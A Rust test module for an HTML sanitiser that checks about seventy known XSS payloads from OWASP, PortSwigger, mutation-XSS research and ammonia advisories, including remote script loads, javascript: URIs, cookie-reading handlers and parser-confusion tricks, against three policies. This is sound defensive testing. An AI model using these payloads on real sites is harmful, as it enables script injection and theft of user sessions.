//! Attack strings, one row each with its source. The verdict is not "looks right" but a grammar: what a policy
//! returns must consist of text and of exactly the tags and attributes that the policy may write.

#![allow(clippy::string_slice, reason = "tests cut at ASCII")]

use super::HtmlPolicy;

/// Where the row comes from.
const OWASP: &str = "OWASP XSS Filter Evasion Cheat Sheet";
const PORTSWIGGER: &str = "PortSwigger XSS cheat sheet";
const MXSS: &str = "mutation XSS: Heyes/Bentkowski, securitum.com 2020";
const AMMONIA: &str =
    "ammonia advisories RUSTSEC-2019-0001, 2021-0074, 2022-0003, 2025-0071, 2026-0193, 2026-0213";
const PITFALL: &str = "ammonia 4.2.4 defaults";

const ATTACKS: &[(&str, &str)] = &[
    (
        OWASP,
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    ),
    (
        OWASP,
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    ),
    (
        OWASP,
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    ),
    (OWASP, "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>"),
    (
        OWASP,
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    ),
    (OWASP, "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    (
        OWASP,
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    ),
    (
        OWASP,
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">Click</a>",
    ),
    (
        OWASP,
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61\">Click</a>",
    ),
    (OWASP, "<a href=\"jav\tascript:alert('XSS');\">Click</a>"),
    (
        OWASP,
        "<a href=\"jav&#x09;ascript:alert('XSS');\">Click</a>",
    ),
    (
        OWASP,
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">Click</a>",
    ),
    (
        OWASP,
        "<a href=\" &#14;  javascript:alert('XSS');\">Click</a>",
    ),
    (
        OWASP,
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    ),
    (
        OWASP,
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    ),
    (OWASP, "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
    (OWASP, "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    (OWASP, "<IMG SRC=\"`('XSS')\"`"),
    (OWASP, "<iframe src=http://xss.rocks/scriptlet.html <"),
    (OWASP, "</script><script>alert('XSS');</script>"),
    (OWASP, "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>"),
    (
        OWASP,
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    ),
    (OWASP, "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    (
        OWASP,
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    ),
    (
        OWASP,
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    (OWASP, "<svg/onload=alert('XSS')>"),
    (
        OWASP,
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    ),
    (OWASP, "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
    (OWASP, "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    (
        OWASP,
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    ),
    (OWASP, "<BASE HREF=\"javascript:alert('XSS');//\">"),
    (
        OWASP,
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    ),
    (
        OWASP,
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
    ),
    (
        OWASP,
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    ),
    (
        OWASP,
        "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    ),
    (OWASP, "<A HREF=\"//www.google.com/\">XSS</A>"),
    (
        OWASP,
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    ),
    (OWASP, "<form><a href=\"javascript:\\u0061lert(1)\">X"),
    (OWASP, "<details open ontoggle=alert(1)>"),
    (
        PORTSWIGGER,
        "<a onbeforecopy=\"alert(1)\" contenteditable>test</a>",
    ),
    (PORTSWIGGER, "<xss onfocus=alert(1) autofocus tabindex=1>"),
    (
        PORTSWIGGER,
        "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>",
    ),
    (PORTSWIGGER, "<a href=\"javas\u{200b}cript:alert(1)\">x</a>"),
    (PORTSWIGGER, "<a href=\"\u{1}javascript:alert(1)\">x</a>"),
    (PORTSWIGGER, "<math><x href=\"javascript:alert(1)\">blah"),
    (
        PORTSWIGGER,
        "<iframe srcdoc=\"<img src=1 onerror=alert(1)>\"></iframe>",
    ),
    (
        PORTSWIGGER,
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ),
    (
        PORTSWIGGER,
        "<p style=\"animation:x\" onanimationstart=\"alert(1)\"></p>",
    ),
    (
        PORTSWIGGER,
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    ),
    (
        MXSS,
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        MXSS,
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    (
        MXSS,
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    ),
    (
        MXSS,
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml>",
    ),
    (
        MXSS,
        "<svg><desc><p><style><a title=\"</style><img src onerror=alert(1)>\">",
    ),
    (
        MXSS,
        "<p><svg><title><a title=\"</title><script>alert(1)</script>\">",
    ),
    (
        MXSS,
        "<table><td><svg><foreignObject><style><b title=\"</style><script>alert(1)</script>\">",
    ),
    (
        AMMONIA,
        "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
    ),
    (
        AMMONIA,
        "<math><mi><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    ),
    (
        AMMONIA,
        "<svg><style><img title=\"</style><img src onerror=alert(1)>\">",
    ),
    (
        AMMONIA,
        "<select><selectedcontent></selectedcontent><option><img src=x onerror=alert(1)></option></select>",
    ),
    (
        AMMONIA,
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
    ),
    (PITFALL, "<a href=\"//evil.example\">x</a>"),
    (PITFALL, "<a href=\"/\\evil.example\">x</a>"),
    (
        PITFALL,
        "<a href=\"https://bank.example@evil.example/\">x</a>",
    ),
    (
        PITFALL,
        "<a href=\"ssh://host/\">x</a><a href=\"ftp://host/\">x</a>",
    ),
    (
        PITFALL,
        "<img src=\"https://track.example/p.gif\" srcset=\"javascript:alert(1) 2x\">",
    ),
    (
        PITFALL,
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    ),
    (
        PITFALL,
        "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    ),
    (
        PITFALL,
        "<area ping=\"javascript:alert(1)\"><audio poster=\"javascript:alert(1)\">",
    ),
    (
        PITFALL,
        "<p>a\u{202e}b\u{2066}c\u{200b}d&#x202e;e&#8203;f&#xad;g</p>",
    ),
    (
        PITFALL,
        "<a href=\"java&#x200b;script:alert(1)\" title=\"&#x202e;x\">x</a>",
    ),
    (
        PITFALL,
        "<p id=\"body\" name=\"cookie\" class=\"admin\">x</p>",
    ),
];

/// Text, and tags of the given names with the given attributes in the one form that the serialiser has.
fn conforms(html: &str, tags: &[&str], attributes: &[&str]) -> Result<(), String> {
    let mut rest = html;
    while let Some(at) = rest.find(['<', '>']) {
        let tag = &rest[at..];
        let fault = || format!("in {html:?} at {tag:?}");
        let inner = tag.strip_prefix('<').ok_or_else(fault)?;
        let closing = inner.starts_with('/');
        let inner = inner.trim_start_matches('/');
        let end = inner
            .find(|c: char| !c.is_ascii_alphanumeric())
            .ok_or_else(fault)?;
        if !tags.contains(&&inner[..end]) {
            return Err(fault());
        }
        let mut inner = &inner[end..];
        while let Some(attribute) = inner.strip_prefix(' ') {
            let (name, value) = attribute.split_once("=\"").ok_or_else(fault)?;
            let (value, after) = value.split_once('"').ok_or_else(fault)?;
            if closing || !attributes.contains(&name) || value.contains(['<', '>']) {
                return Err(fault());
            }
            if name == "href" && !is_tame_link(value) {
                return Err(fault());
            }
            inner = after;
        }
        rest = inner.strip_prefix('>').ok_or_else(fault)?;
    }
    match html.chars().find(|&c| crate::text::is_hidden(c)) {
        Some(c) => Err(format!("{c:?} in {html:?}")),
        None => Ok(()),
    }
}

/// Written apart from the policy's own check.
fn is_tame_link(value: &str) -> bool {
    let value = value.replace("&amp;", "&").to_ascii_lowercase();
    let local = value.starts_with('#')
        || (value.starts_with('/') && !value.starts_with("//") && !value.starts_with("/\\"))
        || !value.contains(':') && !value.starts_with(['/', '\\']);
    let web = ["http://", "https://"].iter().any(|scheme| {
        value.strip_prefix(scheme).is_some_and(|rest| {
            !rest
                .split(['/', '?', '#'])
                .next()
                .unwrap_or("")
                .contains(['@', '\\'])
        })
    });
    (local || web || value.starts_with("mailto:")) && !value.contains(['\t', '\n', '\r'])
}

pub(super) const COMMENT_TAGS: &[&str] = &[
    "p",
    "br",
    "b",
    "i",
    "em",
    "strong",
    "u",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
];
const ARTICLE_TAGS: &[&str] = &[
    "p",
    "br",
    "strong",
    "em",
    "u",
    "h1",
    "h2",
    "h3",
    "ul",
    "ol",
    "li",
    "a",
    "blockquote",
    "code",
    "pre",
];

fn assert_tame(source: &str, text: &str) {
    for (policy, tags, attributes) in [
        (HtmlPolicy::plain_text(), &[][..], &[][..]),
        (
            HtmlPolicy::comment(),
            COMMENT_TAGS,
            &["href", "title", "rel"][..],
        ),
        (
            HtmlPolicy::article(),
            ARTICLE_TAGS,
            &["href", "title", "rel", "target"][..],
        ),
    ] {
        // A refusal is also a defence, but none of the short rows may need it.
        let html = policy
            .clean(text)
            .unwrap_or_else(|e| panic!("{source}: {text:?}: {e}"));
        if let Err(fault) = conforms(html.as_str(), tags, attributes) {
            panic!("{source}: {text:?} under {policy:?}: {fault}");
        }
        assert_eq!(
            policy.clean(html.as_str()).unwrap(),
            html,
            "{source}: not a fixpoint"
        );
    }
}

#[test]
fn no_attack_survives() {
    for (source, text) in ATTACKS {
        assert_tame(source, text);
    }
}

/// The rows after text, inside other elements, and inside an attribute or comment that never ends.
#[test]
fn no_attack_survives_in_company() {
    for (source, text) in ATTACKS {
        for (before, after) in [
            ("<p>hello <b>", "</b></p>"),
            ("<ul><li>", "<li>x"),
            ("<a title=\"", "\">x</a>"),
            ("<!-- ", " -->"),
            ("<pre>\n", "</pre>"),
            ("<table><tr>", "</table>"),
            ("<select>", "</select>"),
        ] {
            assert_tame(source, &format!("{before}{text}{after}"));
        }
    }
}

#[test]
fn pairs_of_attacks_do_not_help_one_another() {
    for (i, (source, text)) in ATTACKS.iter().enumerate() {
        for (_, other) in ATTACKS.iter().skip(i % 7).step_by(7) {
            assert_tame(source, &format!("{text}{other}"));
        }
    }
}

/// The grammar itself must be able to fail.
#[test]
fn the_grammar_finds_what_it_is_for() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"//evil\">",
        "<a href=\"https://a@b/\">",
        "<p",
        "a > b",
        "\u{202e}",
    ] {
        assert!(conforms(bad, &["p", "a"], &["href"]).is_err(), "{bad}");
    }
    assert!(conforms("a <p>b</p> <a href=\"/x\">c</a>", &["p", "a"], &["href"]).is_ok());
}
